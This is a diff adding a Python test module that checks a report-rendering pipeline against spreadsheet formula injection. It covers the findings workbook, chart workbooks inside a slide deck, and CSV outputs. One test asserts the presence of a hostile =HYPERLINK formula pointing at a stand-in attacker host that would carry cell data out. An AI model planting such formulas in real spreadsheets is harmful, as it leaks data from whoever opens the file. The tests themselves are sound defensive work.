@@ -1,0 +1,212 @@
+"""Text starting with =, +, -, @, tab or CR never becomes a formula: in the findings workbook, in the
+workbooks behind the deck's native charts, and in findings.csv, rejects.csv and decisions_template.csv
+(a leading apostrophe; numbers stay numbers)."""
+
+from __future__ import annotations
+
+import copy
+import csv
+import io
+import re
+
+import pytest
+
+from pipeline.render.pptx import render_deck
+from pipeline.render.text import FORMULA_PREFIXES, clean_text, neutralise_formula
+from pipeline.render.xlsx import render_workbook
+from pipeline.runner.csvout import FINDINGS_COLUMNS, REJECTS_COLUMNS, findings_csv, to_csv
+from tests.hostile.conftest import (E2E_HOSTNAMES, FORMULA_LIKE, FORMULA_PRODUCTS, QBR, QUARTER, REJECTED_VALUES,
+                                    TEXT_CLIENT, UNKNOWN_CLIENT, client_entries, client_file, embedded_workbooks,
+                                    formula_cells, read_csv, xlsx_cells, xlsx_column, xlsx_value)
+
+RISKY = tuple(FORMULA_PREFIXES)
+
+
+def _risky(text: str) -> bool:
+    return text.startswith(RISKY)
+
+
+# ----------------------------------------------------------------------------- the findings workbook
+def formula_context(base: dict) -> dict:
+    ctx = copy.deepcopy(base)
+    finding, asset = ctx["findings"][0], ctx["current_state"]["assets"][0]
+    ctx["findings"] = [dict(finding, title=s, subject=s, recommendation=s, source=s) for s in FORMULA_LIKE]
+    ctx["current_state"]["assets"] = [dict(asset, hostname=s, model=s, serial=s) for s in FORMULA_LIKE]
+    ctx["current_state"]["users"] = [{"upn": s, "name": s, "licenses": s, "status": "active", "last_activity": "-"}
+                                     for s in FORMULA_LIKE]
+    ctx["current_state"]["licenses"] = [{"product": s, "purchased": 5, "assigned": -1, "spare": "-",
+                                         "price_text": s} for s in FORMULA_LIKE]
+    ctx["risks"] = [dict(ctx["risks"][0], title=s, cost_of_inaction=s, mitigation=s, subjects=s) for s in FORMULA_LIKE]
+    ctx["initiatives"] = [dict(ctx["initiatives"][0], title=s, owner=s, goal=s, success_metric=s, subjects=s)
+                          for s in FORMULA_LIKE]
+    row = ctx["budget"]["rows"][0]
+    ctx["budget"]["rows"] = [dict(row, category=s) for s in FORMULA_LIKE]
+    return ctx
+
+
+def test_findings_workbook_stores_formula_like_text_as_text(base_context):
+    data = render_workbook(formula_context(base_context))
+    assert formula_cells(data) == []
+    texts = [c for c in xlsx_cells(data) if isinstance(c.value, str)]
+    for cell in texts:
+        assert cell.data_type == "s", f"{cell.parent.title}!{cell.coordinate} {cell.value!r}"
+        assert not _risky(xlsx_value(cell)), f"{cell.parent.title}!{cell.coordinate} {cell.value!r} is unprotected"
+    expected = [neutralise_formula(clean_text(s)) for s in FORMULA_LIKE]
+    assert all(v.startswith("'") for v in expected)
+    for sheet, header in (("Findings", "Title"), ("Findings", "Subject"), ("Assets", "Hostname"), ("Users", "Name"),
+                          ("Licenses", "Product"), ("Risk register", "Risk"), ("Initiatives", "Initiative")):
+        assert [xlsx_value(c) for c in xlsx_column(data, sheet, header)] == expected, (sheet, header)
+
+
+def test_numbers_stay_numbers_in_the_workbook(base_context):
+    ctx = formula_context(base_context)
+    ctx["findings"][0]["estimated_cost"] = -1584.5
+    data = render_workbook(ctx)
+    costs = xlsx_column(data, "Findings", "Cost (one-time or annual)")
+    assert costs[0].data_type == "n" and costs[0].value == -1584.5
+    purchased = xlsx_column(data, "Licenses", "Assigned")
+    assert all(c.data_type == "n" and c.value == -1 for c in purchased)
+
+
+def test_control_character_before_a_formula_does_not_hide_it(base_context):
+    ctx = copy.deepcopy(base_context)
+    ctx["findings"][0]["title"] = "\x00=1+1"
+    ctx["findings"][1]["title"] = "\ud800@SUM(A1)"
+    data = render_workbook(ctx)
+    titles = [xlsx_value(c) for c in xlsx_column(data, "Findings", "Title")]
+    assert titles[:2] == ["'=1+1", "'@SUM(A1)"]
+
+
+# ----------------------------------------------------------------------------- workbooks behind the charts
+def chart_context(base: dict) -> dict:
+    ctx = copy.deepcopy(base)
+    state = ctx["current_state"]
+    state["support_status"] = [{"label": s, "count": n + 1} for n, s in enumerate(FORMULA_LIKE)]
+    state["age_buckets"] = [{"label": s, "count": n + 1} for n, s in enumerate(FORMULA_LIKE)]
+    state["warranty_status"] = [{"label": s, "count": n + 1} for n, s in enumerate(FORMULA_LIKE)]
+    row = ctx["budget"]["rows"][0]
+    ctx["budget"]["rows"] = [dict(row, category=s) for s in FORMULA_LIKE]
+    for grade, label in zip(ctx["grades"], FORMULA_LIKE):
+        grade["label"] = label
+    ctx["changes"] = dict(ctx["changes"], grade_trend=[
+        {"quarter": "=2026-Q3", **{g["area"]: 50 for g in ctx["grades"]}},
+        {"quarter": "+2026-Q4", **{g["area"]: 60 for g in ctx["grades"]}}])
+    return ctx
+
+
+def test_chart_workbooks_in_the_deck_hold_no_formula(base_context):
+    deck = render_deck(chart_context(base_context), QBR)
+    books = embedded_workbooks(deck)
+    assert len(books) >= 5, "current state (3), budget and grade trend charts"
+    strings = set()
+    for name, data in books.items():
+        assert formula_cells(data) == [], name
+        for cell in xlsx_cells(data):
+            if isinstance(cell.value, str):
+                assert cell.data_type == "s", (name, cell.coordinate, cell.value)
+                strings.add(xlsx_value(cell))
+    for label in FORMULA_LIKE:  # stored as the literal text (no prefix needed: it is a string cell)
+        assert clean_text(label) in strings, label
+    assert {"=2026-Q3", "+2026-Q4"} <= strings
+
+
+def test_chart_series_and_categories_in_the_chart_xml_are_literal(base_context):
+    import zipfile
+
+    deck = render_deck(chart_context(base_context), QBR)
+    with zipfile.ZipFile(io.BytesIO(deck)) as archive:
+        charts = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("ppt/charts/chart")]
+    xml = "".join(charts)
+    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in xml or \
+        '=HYPERLINK("http://evil.example/?"&amp;A1,"click")' in xml
+    # python-pptx's own formula references (Sheet1!$A$2) are the only <c:f> content
+    for ref in re.findall(r"<c:f>(.*?)</c:f>", xml):
+        assert re.fullmatch(r"Sheet1!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?", ref), ref
+
+
+# ----------------------------------------------------------------------------- CSV outputs
+def _raw_rows(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("text", FORMULA_LIKE + ["\t", "\r", "=", "-", "\x00=1+1", "\x1b@x"])
+def test_csv_text_cells_get_a_leading_apostrophe(text):
+    rows = _raw_rows(to_csv(REJECTS_COLUMNS, [{"file": text, "line": 3, "column": text, "value": text,
+                                              "reason": text}]))
+    expected = "'" + clean_text(text)
+    assert rows[1] == [expected, "3", expected, expected, expected]
+
+
+@pytest.mark.parametrize("number, text", [(-5, "-5"), (-1584.5, "-1584.5"), (1200.0, "1200.0"), (0, "0"),
+                                          (2.345, "2.35")])
+def test_csv_numbers_stay_numbers(number, text):
+    rows = _raw_rows(findings_csv("=Client", [{"finding_id": "F-1", "estimated_cost": number, "title": "-5"}]))
+    row = dict(zip(rows[0], rows[1]))
+    assert row["estimated_cost"] == text, "a number is written as a number, without an apostrophe"
+    assert row["title"] == "'-5", "the same characters as text are neutralised"
+    assert row["client"] == "'=Client"
+
+
+def test_findings_csv_of_the_run_neutralises_hostile_subjects_and_titles(hostile_run):
+    entry = client_entries(hostile_run.manifest)[TEXT_CLIENT]
+    path = client_file(hostile_run.out, entry, "findings")
+    rows = read_csv(path)
+    assert list(rows[0]) == list(FINDINGS_COLUMNS)
+    subjects = {r["subject"] for r in rows}
+    for host in E2E_HOSTNAMES:
+        assert (("'" + host) if _risky(host) else host) in subjects, host
+    for product in FORMULA_PRODUCTS:
+        assert "'" + product in subjects
+        assert any(r["title"].startswith("'" + product) for r in rows), product
+    for row in rows:
+        for column, value in row.items():
+            assert not _risky(value) or column == "estimated_cost", (column, value)
+        assert re.fullmatch(r"-?\d+(\.\d+)?", row["estimated_cost"]) or row["estimated_cost"] == "", row
+
+
+def test_findings_csv_neutralises_a_client_name(hostile_run):
+    entry = client_entries(hostile_run.manifest)["@Home Networks"]
+    rows = read_csv(client_file(hostile_run.out, entry, "findings"))
+    assert rows and all(r["client"] == "'@Home Networks" for r in rows)
+    decisions = read_csv(client_file(hostile_run.out, entry, "decisions_template"))
+    assert decisions and all(r["client"] == "'@Home Networks" for r in decisions)
+
+
+def test_decisions_template_neutralises_hostile_notes(hostile_run):
+    entry = client_entries(hostile_run.manifest)[TEXT_CLIENT]
+    rows = read_csv(client_file(hostile_run.out, entry, "decisions_template"))
+    notes = [r["note"] for r in rows]
+    for product in FORMULA_PRODUCTS:
+        assert any(n.startswith("'" + product) for n in notes), product
+    for row in rows:
+        assert not any(_risky(v) for v in row.values()), row
+
+
+def test_rejects_csv_neutralises_rejected_values(hostile_run):
+    rows = read_csv(hostile_run.out / QUARTER / "rejects.csv")
+    values = {r["value"] for r in rows}
+    for value in REJECTED_VALUES:
+        assert "'" + value in values, value
+    assert "'" + UNKNOWN_CLIENT in values
+    for row in rows:
+        assert not any(_risky(v) for v in row.values()), row
+        assert row["line"].isdigit()
+
+
+def test_workbooks_and_chart_workbooks_of_the_run_hold_no_formula(hostile_run):
+    entries = client_entries(hostile_run.manifest)
+    for entry in entries.values():
+        workbook = client_file(hostile_run.out, entry, "workbook").read_bytes()
+        assert formula_cells(workbook) == [], entry["name"]
+        deck = client_file(hostile_run.out, entry, "qbr").read_bytes()
+        for name, data in embedded_workbooks(deck).items():
+            assert formula_cells(data) == [], (entry["name"], name)
+    for name in ("portfolio.xlsx", "portfolio.pptx"):
+        data = (hostile_run.out / QUARTER / name).read_bytes()
+        books = embedded_workbooks(data) if name.endswith(".pptx") else {name: data}
+        for book, blob in books.items():
+            assert formula_cells(blob) == [], book
+    hosts = [xlsx_value(c) for c in xlsx_column(client_file(hostile_run.out, entries[TEXT_CLIENT], "workbook")
+                                                .read_bytes(), "Assets", "Hostname")]
+    for host in E2E_HOSTNAMES:
+        assert neutralise_formula(host) in hosts, host
